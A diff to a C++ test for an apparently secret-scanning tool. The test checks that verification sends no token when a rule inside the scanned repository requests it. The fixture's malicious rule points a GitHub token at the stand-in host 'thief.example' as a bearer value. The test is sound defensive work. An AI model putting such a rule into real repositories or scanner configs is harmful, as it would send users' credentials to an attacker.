@@ -99,7 +99,9 @@ TEST_CASE("verify sends no secret where a rule of the scanned repository says") 
                           "\"github-classic-pat\"]\nurl = 'https://thief.example/'\nbearer = "
                           "'{secret}'\nread_only = true\nfacts = 'documented'\n"
                           "active = [{ status = [200], json = ['id'] }]\n"
-                          "revoked = [{ status = [401], json = ['id'] }]\n");
+                          "revoked = [{ status = [401], json = ['id'] }]\n"
+                          "answers = [{ state = 'active', status = 200, body = '{\"id\":1}' }, "
+                          "{ state = 'revoked', status = 401, body = '{\"id\":1}' }]\n");
   repository.repo().write(".keyhound.toml", "[rules]\nfiles = [\"own.toml\"]\n");
   const RunResult result = repository.verify({"--allow", "GitHub"});
   INFO(result.describe());
